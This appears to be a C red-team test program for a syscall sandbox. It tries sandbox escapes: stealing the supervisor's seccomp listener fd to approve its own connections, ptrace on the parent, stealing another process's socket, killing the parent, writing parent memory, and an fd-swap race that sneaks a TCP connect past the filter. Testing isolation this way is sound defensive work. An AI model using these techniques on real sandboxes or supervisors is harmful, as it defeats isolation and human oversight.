/* Red team: a traced program that reaches for its own supervisor, or for
 * another process's sockets.
 *
 *   attack_fence listener HOST PORT  steal the supervisor's seccomp listener
 *                                    (pidfd_getfd on the parent), answer
 *                                    notifications with CONTINUE in a thread,
 *                                    and connect to HOST:PORT (TCP)
 *   attack_fence ptrace              PTRACE_SEIZE / PTRACE_ATTACH the parent
 *   attack_fence steal PID FD        pidfd_getfd fd FD of process PID (a
 *                                    connected UDP socket) and send on it
 *   attack_fence kill                kill(getppid(), SIGKILL)
 *   attack_fence vmwrite             process_vm_writev and /proc/PPID/mem
 *                                    into the parent (writes back a byte it
 *                                    read, so a success harms nothing)
 *   attack_fence tcprace HOST PORT   a unix connect (answered with CONTINUE)
 *                                    while another thread swaps the fd for a
 *                                    TCP socket and the address for HOST:PORT
 *   attack_fence hold HOST PORT      (run outside sockstrace) a UDP socket
 *                                    connected to HOST:PORT; prints
 *                                    "hold: pid=N fd=N" and waits
 *
 * Output: "OP: ok ..." and exit 0 when the attack got through; "OP: errno=N
 * (text)" and exit 1 when the kernel refused it; exit 2 on anything else.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int pidfd_open(pid_t pid) { return (int)syscall(SYS_pidfd_open, pid, 0); }
static int pidfd_getfd(int pidfd, int fd) { return (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0); }

static int refused(const char *op, int err) {
    printf("%s: errno=%d (%s)\n", op, err, strerror(err));
    fflush(stdout);
    return 1;
}

static struct sockaddr_in inet_addr_of(const char *host, const char *port) {
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        fprintf(stderr, "bad address %s\n", host);
        exit(2);
    }
    return sa;
}

static volatile long answered;

static void *answer_continue(void *arg) {
    int listener = *(int *)arg;
    for (;;) {
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
            if (errno == EINTR || errno == ENOENT)
                continue;
            return NULL;
        }
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
            __atomic_add_fetch(&answered, 1, __ATOMIC_SEQ_CST);
    }
}

static int attack_listener(const char *host, const char *port) {
    int pidfd = pidfd_open(getppid());
    if (pidfd < 0)
        return refused("pidfd_open", errno);
    int listener = -1, first_errno = 0, stolen = 0;
    for (int fd = 0; fd < 64 && listener < 0; fd++) {
        int got = pidfd_getfd(pidfd, fd);
        if (got < 0) {
            if (errno != EBADF && !first_errno)
                first_errno = errno;
            continue;
        }
        stolen++;
        char path[64], target[256];
        snprintf(path, sizeof path, "/proc/self/fd/%d", got);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n > 0) {
            target[n] = 0;
            if (strstr(target, "seccomp notify")) {
                listener = got;
                break;
            }
        }
        close(got);
    }
    if (listener < 0) {
        if (!stolen)
            return refused("pidfd_getfd", first_errno ? first_errno : EBADF);
        printf("listener: not found among %d stolen fds\n", stolen);
        return 2;
    }
    printf("listener: stolen fd=%d\n", listener);
    fflush(stdout);
    pthread_t t;
    if (pthread_create(&t, NULL, answer_continue, &listener) != 0)
        return 2;
    struct sockaddr_in sa = inet_addr_of(host, port);
    int last = 0;
    /* The supervisor's own receivers race ours for each notification: try
     * until one of ours answers CONTINUE. */
    for (int i = 0; i < 400; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0)
            return refused("socket", errno);
        if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
            const char msg[] = "LEAK via stolen listener";
            ssize_t sent = send(s, msg, sizeof msg - 1, 0);
            printf("connect: ok attempt=%d sent=%zd answered=%ld\n", i, sent, answered);
            fflush(stdout);
            close(s);
            return 0;
        }
        last = errno;
        close(s);
    }
    printf("answered=%ld\n", answered);
    return refused("connect", last);
}

static int attack_ptrace(void) {
    pid_t parent = getppid();
    if (ptrace(PTRACE_SEIZE, parent, 0, 0) == 0) {
        /* Exiting detaches; a seized process is never stopped. */
        printf("ptrace: ok seized %d\n", parent);
        return 0;
    }
    int seize = errno;
    printf("ptrace-seize: errno=%d (%s)\n", seize, strerror(seize));
    /* PTRACE_ATTACH would stop the parent: only tried when SEIZE was refused
     * for a reason other than permission (it then says the same). */
    if (seize == EPERM || seize == EACCES)
        return refused("ptrace", seize);
    if (ptrace(PTRACE_ATTACH, parent, 0, 0) == 0) {
        printf("ptrace: ok attached %d\n", parent);
        return 0;
    }
    return refused("ptrace", errno);
}

static int attack_steal(const char *pid, const char *fd) {
    int pidfd = pidfd_open(atoi(pid));
    if (pidfd < 0)
        return refused("pidfd_open", errno);
    int got = pidfd_getfd(pidfd, atoi(fd));
    if (got < 0)
        return refused("pidfd_getfd", errno);
    const char msg[] = "LEAK via stolen socket";
    /* send() without an address is not trapped: only the fence stands here. */
    ssize_t n = send(got, msg, sizeof msg - 1, 0);
    if (n < 0)
        return refused("send", errno);
    printf("steal: ok sent=%zd\n", n);
    return 0;
}

static int attack_kill(void) {
    if (kill(getppid(), SIGKILL) != 0)
        return refused("kill", errno);
    printf("kill: ok\n");
    fflush(stdout);
    sleep(1);
    return 0;
}

/* The first writable private mapping of `pid`, or 0. */
static unsigned long writable_address(pid_t pid) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    unsigned long start = 0, addr = 0;
    char perms[8];
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%lx-%*x %7s", &start, perms) == 2 && strncmp(perms, "rw-p", 4) == 0) {
            addr = start;
            break;
        }
    }
    fclose(f);
    return addr;
}

static int attack_vmwrite(void) {
    pid_t parent = getppid();
    unsigned long addr = writable_address(parent);
    if (!addr)
        addr = 0x400000; /* maps unreadable: the errno still tells EPERM from EFAULT */
    int breached = 0, denied = 0;
    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)addr, 1};
    if (process_vm_readv(parent, &local, 1, &remote, 1, 0) == 1 &&
        process_vm_writev(parent, &local, 1, &remote, 1, 0) == 1) {
        printf("process_vm_writev: ok addr=%#lx\n", addr);
        breached++;
    } else {
        int e = errno;
        printf("process_vm_writev: errno=%d (%s)\n", e, strerror(e));
        denied += e == EPERM || e == EACCES;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", parent);
    int mem = open(path, O_RDWR);
    if (mem >= 0 && pread(mem, &byte, 1, (off_t)addr) == 1 && pwrite(mem, &byte, 1, (off_t)addr) == 1) {
        printf("proc-mem: ok addr=%#lx\n", addr);
        breached++;
    } else {
        int e = errno;
        printf("proc-mem: errno=%d (%s)\n", e, strerror(e));
        denied += e == EPERM || e == EACCES;
    }
    fflush(stdout);
    if (breached)
        return 0;
    return denied == 2 ? 1 : 2;
}

/* The fd number both threads fight over. */
#define RACE_FD 200

static union {
    struct sockaddr_un un;
    struct sockaddr_in in;
} race_addr;
static struct sockaddr_un race_un;
static struct sockaddr_in race_in;
static int race_unix, race_tcp;
static volatile int race_stop;

static void *race_flipper(void *arg) {
    (void)arg;
    while (!race_stop) {
        dup2(race_unix, RACE_FD);
        memcpy(&race_addr, &race_un, sizeof race_un);
        for (volatile int i = 0; i < 50; i++)
            ;
        dup2(race_tcp, RACE_FD);
        memset(&race_addr, 0, sizeof race_addr);
        memcpy(&race_addr, &race_in, sizeof race_in);
        for (volatile int i = 0; i < 50; i++)
            ;
    }
    return NULL;
}

static int attack_tcprace(const char *host, const char *port) {
    race_in = inet_addr_of(host, port);
    race_un.sun_family = AF_UNIX;
    snprintf(race_un.sun_path, sizeof race_un.sun_path, "/nonexistent/attack_fence.sock");
    race_unix = socket(AF_UNIX, SOCK_STREAM, 0);
    race_tcp = socket(AF_INET, SOCK_STREAM, 0);
    if (race_unix < 0 || race_tcp < 0)
        return refused("socket", errno);
    dup2(race_unix, RACE_FD);
    memcpy(&race_addr, &race_un, sizeof race_un);
    pthread_t t;
    if (pthread_create(&t, NULL, race_flipper, NULL) != 0)
        return 2;
    long eacces = 0, tries = 0;
    time_t end = time(NULL) + 4;
    while (time(NULL) < end) {
        for (int i = 0; i < 200; i++, tries++) {
            if (connect(RACE_FD, (struct sockaddr *)&race_addr, sizeof race_un) != 0 && errno == EACCES)
                eacces++;
            struct sockaddr_in peer;
            socklen_t len = sizeof peer;
            if (getpeername(race_tcp, (struct sockaddr *)&peer, &len) == 0) {
                race_stop = 1;
                const char msg[] = "LEAK via fd race";
                ssize_t n = send(race_tcp, msg, sizeof msg - 1, MSG_NOSIGNAL);
                printf("tcprace: ok tries=%ld sent=%zd\n", tries, n);
                return 0;
            }
        }
    }
    race_stop = 1;
    pthread_join(t, NULL);
    printf("tcprace: tries=%ld eacces=%ld\n", tries, eacces);
    if (eacces)
        return refused("tcprace", EACCES);
    printf("tcprace: lost (the race never reached the kernel)\n");
    return 2;
}

static int hold(const char *host, const char *port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in sa = inet_addr_of(host, port);
    if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof sa) != 0)
        return refused("hold", errno);
    printf("hold: pid=%d fd=%d\n", getpid(), s);
    fflush(stdout);
    for (;;)
        pause();
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 4 && strcmp(argv[1], "listener") == 0)
        return attack_listener(argv[2], argv[3]);
    if (argc >= 2 && strcmp(argv[1], "ptrace") == 0)
        return attack_ptrace();
    if (argc >= 4 && strcmp(argv[1], "steal") == 0)
        return attack_steal(argv[2], argv[3]);
    if (argc >= 2 && strcmp(argv[1], "kill") == 0)
        return attack_kill();
    if (argc >= 2 && strcmp(argv[1], "vmwrite") == 0)
        return attack_vmwrite();
    if (argc >= 4 && strcmp(argv[1], "tcprace") == 0)
        return attack_tcprace(argv[2], argv[3]);
    if (argc >= 4 && strcmp(argv[1], "hold") == 0)
        return hold(argv[2], argv[3]);
    fprintf(stderr, "usage: attack_fence listener HOST PORT | ptrace | steal PID FD | kill | vmwrite | hold HOST PORT\n");
    return 2;
}
